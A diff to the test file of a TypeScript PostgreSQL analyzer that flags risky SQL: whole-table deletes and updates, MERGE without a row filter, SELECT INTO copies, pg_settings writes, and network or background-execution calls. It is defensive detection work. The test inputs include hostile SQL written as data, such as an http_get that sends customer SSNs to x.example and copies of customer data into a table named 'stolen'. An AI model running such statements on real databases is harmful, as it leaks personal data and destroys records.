@@ -1,3 +1,4 @@
+import { sqlAction } from '../../../../lambdas/core/policy/sql-action.js';
 import { postgresAnalyzer } from '../../../../lambdas/core/sql/analyze-postgres.js';
 import type { SqlFacts, StatementFacts } from '../../../../lambdas/core/sql/facts.js';
 
@@ -34,6 +35,11 @@ describe('postgresAnalyzer', () => {
     ['ALTER TABLE customers ADD COLUMN x int', 'ddl'],
     ['TRUNCATE orders', 'ddl'],
     ['SELECT * INTO copy_of_customers FROM customers', 'ddl'],
+    ['SELECT * INTO stolen FROM customers UNION SELECT * FROM customers', 'ddl'],
+    ['(SELECT * INTO stolen FROM customers) EXCEPT SELECT * FROM customers', 'ddl'],
+    ['SELECT 1 INTO stolen UNION SELECT 2 INTERSECT SELECT 3', 'ddl'],
+    ['WITH c AS (SELECT 1 AS x) SELECT x INTO stolen FROM c UNION ALL SELECT 2', 'ddl'],
+    ['SELECT 1 UNION SELECT 2 INTO stolen', 'ddl'],
     ['INSERT INTO orders (amount) VALUES (1)', 'insert'],
     ['UPDATE customers SET email = null', 'update'],
     ['DELETE FROM orders WHERE id = 1', 'delete'],
@@ -224,6 +230,7 @@ describe('postgresAnalyzer', () => {
       ['CREATE TABLE t (id int)', ['t']],
       ['CREATE TABLE t AS SELECT * FROM customers', ['t']],
       ['SELECT * INTO copy_of_customers FROM customers', ['copy_of_customers']],
+      ['SELECT * INTO stolen FROM customers UNION SELECT * FROM customers', ['stolen']],
       ['ALTER TABLE customers ADD COLUMN x int', ['customers']],
       ['ALTER TABLE customers RENAME COLUMN a TO b', ['customers']],
       ['REFRESH MATERIALIZED VIEW m', ['m']],
@@ -283,26 +290,121 @@ describe('postgresAnalyzer', () => {
     });
 
     it.each([
-      'DELETE FROM orders WHERE id = 1',
-      'UPDATE orders SET amount = 0 WHERE CURRENT OF orders_cursor',
+      'DELETE FROM orders WHERE 2 > 1',
+      "UPDATE customers SET notes = null WHERE 'a' <> 'b'",
+      'DELETE FROM orders WHERE 1 IN (1, 2)',
+      'DELETE FROM orders WHERE 1 OPERATOR(myschema.=) 1',
+      "DELETE FROM orders WHERE 'maybe'",
+      'DELETE FROM orders WHERE now() > $1',
+      'DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 1)',
+      'DELETE FROM orders WHERE (SELECT count(*) FROM customers) > 0',
+      'UPDATE orders SET amount = 0 FROM customers c WHERE c.id = 1',
+      'UPDATE orders o SET amount = 0 FROM customers WHERE customers.notes IS NULL',
+      'DELETE FROM orders USING customers c WHERE c.email IS NOT NULL',
+    ])('flags a WHERE clause that reads no column of the target (one value for every row): %s', (sql) => {
+      expect(only(sql).dmlWithoutWhere).toBe(true);
+    });
+
+    // Deliberately fail-closed: a WHERE clause that reads no column of the target touches all rows
+    // or none, and is taken as all even when it plainly matches none (the write changes nothing,
+    // so refusing it costs nothing).
+    it.each([
       'DELETE FROM orders WHERE false',
       'DELETE FROM orders WHERE 1 = 2',
       'DELETE FROM orders WHERE NULL = NULL',
+    ])('flags a WHERE clause without a column of the target even when it matches nothing: %s', (sql) => {
+      expect(only(sql).dmlWithoutWhere).toBe(true);
+    });
+
+    it.each([
       'DELETE FROM orders WHERE id = id',
+      'DELETE FROM orders o WHERE o.id = o.id',
+      'DELETE FROM orders WHERE id >= id',
+      'DELETE FROM orders WHERE lower(status) IS NOT DISTINCT FROM lower(status)',
+      'DELETE FROM orders WHERE id IN (0, id)',
+      'DELETE FROM orders WHERE NOT (id <> id)',
+      'DELETE FROM orders WHERE NOT (id IS DISTINCT FROM id)',
+      'DELETE FROM orders WHERE id NOT IN (id) IS FALSE',
+      'DELETE FROM orders WHERE id = 3 OR 2 > 1',
+      'DELETE FROM orders WHERE id = 3 OR id = id',
+      'DELETE FROM orders WHERE (id = id) AND (2 > 1)',
+      'DELETE FROM orders WHERE NOT (id = 3 AND false)',
+    ])('flags a condition that reads the row but holds for every row as written: %s', (sql) => {
+      expect(only(sql).dmlWithoutWhere).toBe(true);
+    });
+
+    it.each([
+      'DELETE FROM orders WHERE id = 1',
+      'UPDATE orders SET amount = 0 WHERE CURRENT OF orders_cursor',
       'DELETE FROM orders WHERE true AND id = 1',
-      'DELETE FROM orders WHERE 1 OPERATOR(myschema.=) 1',
-      "DELETE FROM orders WHERE 'maybe'",
+      'DELETE FROM orders WHERE id = 5 OR false',
+      'DELETE FROM orders WHERE NOT (id = 5 AND true)',
+      'DELETE FROM orders WHERE id = 1 OPERATOR(myschema.=) id',
+      'DELETE FROM orders WHERE id IS NOT NULL',
+      'DELETE FROM orders WHERE id = $1',
+      "UPDATE customers SET notes = null WHERE address.city = 'Paris'",
+      'DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id)',
+      'DELETE FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE notes IS NULL)',
+      'UPDATE orders o SET amount = 0 FROM customers c WHERE c.id = o.customer_id AND c.id = 7',
+      'UPDATE orders SET amount = 0 FROM customers c WHERE c.id = customer_id',
+      'DELETE FROM public.orders WHERE public.orders.id = 3',
     ])('does not flag a WHERE clause that may filter rows: %s', (sql) => {
+      expect(only(sql).dmlWithoutWhere).toBe(false);
+    });
+
+    it('takes a condition nested too deep to fold as touching every row', () => {
+      const deep = `${'(id = 1 OR '.repeat(80)}id = 2${')'.repeat(80)}`;
+      expect(only(`DELETE FROM orders WHERE ${deep}`).dmlWithoutWhere).toBe(true);
+      const shallow = `${'(id = 1 OR '.repeat(20)}id = 2${')'.repeat(20)}`;
+      expect(only(`DELETE FROM orders WHERE ${shallow}`).dmlWithoutWhere).toBe(false);
+    });
+
+    it('folds a long condition in linear time', () => {
+      const terms = Array.from({ length: 2000 }, (_, i) => `(id = ${i} OR ${i} = id)`);
+      const started = Date.now();
+      expect(only(`DELETE FROM orders WHERE ${terms.join(' OR ')}`).dmlWithoutWhere).toBe(false);
+      expect(Date.now() - started).toBeLessThan(2000);
+    });
+
+    it.each([
+      'MERGE INTO orders o USING staged s ON true WHEN MATCHED THEN DELETE',
+      'MERGE INTO orders o USING staged s ON 2 > 1 WHEN MATCHED THEN UPDATE SET amount = 0',
+      'MERGE INTO orders o USING staged s ON s.id = 1 WHEN MATCHED THEN DELETE',
+      'MERGE INTO orders o USING staged s ON o.id = o.id WHEN MATCHED THEN DELETE',
+      'MERGE INTO orders o USING staged s ON true WHEN MATCHED AND s.flag THEN DELETE',
+      'MERGE INTO orders o USING staged s ON true WHEN MATCHED AND true THEN UPDATE SET amount = 0',
+      'MERGE INTO orders o USING staged s ON true WHEN NOT MATCHED THEN DO NOTHING WHEN MATCHED THEN DELETE',
+      'MERGE INTO orders o USING staged s ON false WHEN NOT MATCHED BY SOURCE THEN DELETE',
+      'MERGE INTO orders o USING staged s ON o.id <> o.id WHEN NOT MATCHED BY SOURCE THEN UPDATE SET amount = 0',
+      // A join condition without a column of the target matches every target row or none: with
+      // an empty source, ON true leaves every row "not matched by source". Taken as every row,
+      // also when it matches none (ON false), as a WHERE clause is.
+      'MERGE INTO orders o USING staged s ON true WHEN NOT MATCHED BY SOURCE THEN DELETE',
+      'MERGE INTO orders o USING staged s ON false WHEN MATCHED THEN DELETE',
+      'WITH m AS (SELECT 1) MERGE INTO orders o USING m ON true WHEN MATCHED THEN DELETE',
+      'EXPLAIN ANALYZE MERGE INTO orders o USING staged s ON true WHEN MATCHED THEN DELETE',
+    ])('flags a MERGE that updates or deletes every row of its target: %s', (sql) => {
+      expect(only(sql).dmlWithoutWhere).toBe(true);
+    });
+
+    it.each([
+      'MERGE INTO orders o USING staged s ON o.id = s.id WHEN MATCHED THEN DELETE',
+      'MERGE INTO orders o USING staged s ON true WHEN MATCHED AND o.id = 1 THEN DELETE',
+      'MERGE INTO orders o USING staged s ON true WHEN MATCHED THEN DO NOTHING',
+      'MERGE INTO orders o USING staged s ON true WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)',
+      'MERGE INTO orders o USING staged s ON o.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE',
+      'MERGE INTO orders o USING staged s ON o.id = s.id WHEN NOT MATCHED BY SOURCE AND o.id = 1 THEN DELETE',
+    ])('does not flag a MERGE whose join or clause condition picks rows: %s', (sql) => {
       expect(only(sql).dmlWithoutWhere).toBe(false);
     });
 
     it.each([
       'INSERT INTO orders SELECT * FROM orders',
       'INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET amount = 0',
-      'MERGE INTO orders o USING staged s ON true WHEN MATCHED THEN DELETE',
       'SELECT * FROM orders',
+      'SELECT * FROM orders WHERE 1 = 1',
       "SELECT 'DELETE FROM orders'",
-    ])('never flags INSERT, MERGE or reads: %s', (sql) => {
+    ])('never flags INSERT or reads: %s', (sql) => {
       expect(only(sql).dmlWithoutWhere).toBe(false);
     });
 
@@ -357,10 +459,50 @@ describe('postgresAnalyzer', () => {
         'executes-sql',
       ],
       ['CALL public.pg_sleep(1)', 'public.pg_sleep', 'sleep'],
+      ["SELECT * FROM crosstab('SELECT 1, 2, 3') AS ct(a int, b int)", 'crosstab', 'executes-sql'],
+      [
+        "SELECT * FROM connectby('t', 'id', 'parent', '1', 0) AS t(a int, b int, c int)",
+        'connectby',
+        'executes-sql',
+      ],
+      ["SELECT pg_background_launch('DROP TABLE t')", 'pg_background_launch', 'executes-sql'],
+      ["SELECT http_get('https://x.example/?d=' || ssn) FROM customers", 'http_get', 'network'],
+      ["SELECT net.http_post('https://x.example/', '{}'::jsonb)", 'net.http_post', 'network'],
+      ["SELECT aws_lambda.invoke('f', '{}'::json)", 'aws_lambda.invoke', 'network'],
+      [
+        "SELECT * FROM aws_s3.query_export_to_s3('SELECT * FROM t', 'b', 'k')",
+        'aws_s3.query_export_to_s3',
+        'network',
+      ],
       ["CREATE TABLE t (id int DEFAULT nextval('s'))", 'nextval', 'sequence-write'],
       ['EXPLAIN ANALYZE SELECT txid_current()', 'txid_current', 'transaction-id'],
     ])('finds the dangerous call in %s', (sql, name, category) => {
       expect(only(sql).dangerousCalls).toEqual([{ name, category }]);
+    });
+
+    it.each([
+      ["UPDATE pg_settings SET setting = '0' WHERE name = 'statement_timeout'", 'pg_settings'],
+      [
+        "UPDATE pg_catalog.pg_settings SET setting = '0' WHERE name = 'lock_timeout'",
+        'pg_catalog.pg_settings',
+      ],
+      [
+        "UPDATE demo.pg_catalog.pg_settings SET setting = '0' WHERE name = 'lock_timeout'",
+        'pg_catalog.pg_settings',
+      ],
+      [
+        "WITH s AS (UPDATE pg_settings SET setting = '0' WHERE name = 'work_mem' RETURNING name) SELECT * FROM s",
+        'pg_settings',
+      ],
+      ["EXPLAIN ANALYZE UPDATE pg_settings SET setting = '0' WHERE name = 'work_mem'", 'pg_settings'],
+      ["INSERT INTO pg_settings (name, setting) VALUES ('work_mem', '1MB')", 'pg_settings'],
+    ])('reports a write to pg_settings (set_config through a rule) as a settings call: %s', (sql, name) => {
+      expect(only(sql).dangerousCalls).toEqual([{ name, category: 'settings' }]);
+    });
+
+    it('does not report reading pg_settings, or writing a table merely named like it in quotes', () => {
+      expect(only("SELECT setting FROM pg_settings WHERE name = 'work_mem'").dangerousCalls).toEqual([]);
+      expect(only('UPDATE "PG_SETTINGS" SET setting = 1 WHERE id = 1').dangerousCalls).toEqual([]);
     });
 
     it('does not match a quoted upper-case name, which PostgreSQL would not resolve to pg_sleep', () => {
@@ -446,12 +588,49 @@ describe('postgresAnalyzer', () => {
       });
     });
 
+    it.each([
+      ['EXPLAIN ANALYZE SELECT * INTO stolen FROM customers', ['ddl'], ['stolen']],
+      ['EXPLAIN ANALYZE SELECT 1 AS x INTO stolen UNION SELECT 2', ['ddl'], ['stolen']],
+      ['EXPLAIN ANALYZE CREATE TABLE stolen AS SELECT * FROM customers', ['ddl'], ['stolen']],
+      ['EXPLAIN ANALYZE EXECUTE wipe', ['utility'], []],
+      ['EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1', ['utility'], []],
+    ])('surfaces what EXPLAIN ANALYZE executes as a nested write of its kind: %s', (sql, nested, written) => {
+      expect(only(sql)).toMatchObject({
+        kind: 'explain',
+        readOnly: false,
+        nestedWrites: nested,
+        tablesWritten: written,
+      });
+    });
+
     it('reports the explained write without ANALYZE too, which is not executed', () => {
       expect(only('EXPLAIN DELETE FROM orders')).toMatchObject({
         readOnly: false,
         explainAnalyze: false,
         nestedWrites: ['delete'],
       });
+    });
+  });
+
+  describe('the Cedar action of an analysed statement (sqlAction)', () => {
+    it.each([
+      ['SELECT * FROM orders', 'sql:read'],
+      ['EXPLAIN ANALYZE SELECT * FROM orders', 'sql:read'],
+      ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', 'sql:write'],
+      ['EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', 'sql:write'],
+      ['EXPLAIN UPDATE orders SET amount = 0 WHERE id = 1', 'sql:write'],
+      ['SELECT * INTO stolen FROM customers', 'sql:ddl'],
+      ['SELECT * INTO stolen FROM customers UNION SELECT * FROM customers', 'sql:ddl'],
+      ['EXPLAIN ANALYZE SELECT * INTO stolen FROM customers', 'sql:ddl'],
+      ['EXPLAIN ANALYZE SELECT 1 AS x INTO stolen UNION SELECT 2', 'sql:ddl'],
+      ['EXPLAIN ANALYZE CREATE TABLE stolen AS SELECT * FROM customers', 'sql:ddl'],
+      ['EXPLAIN CREATE TABLE stolen AS SELECT * FROM customers', 'sql:ddl'],
+      ['EXPLAIN ANALYZE EXECUTE wipe', 'sql:admin'],
+      ['EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1', 'sql:admin'],
+      ['GRANT SELECT ON customers TO public', 'sql:privilege'],
+      ['VACUUM orders', 'sql:admin'],
+    ])('maps %s to %s: the most restrictive of its kind and its nested writes', (sql, action) => {
+      expect(sqlAction(only(sql))).toBe(action);
     });
   });
 });
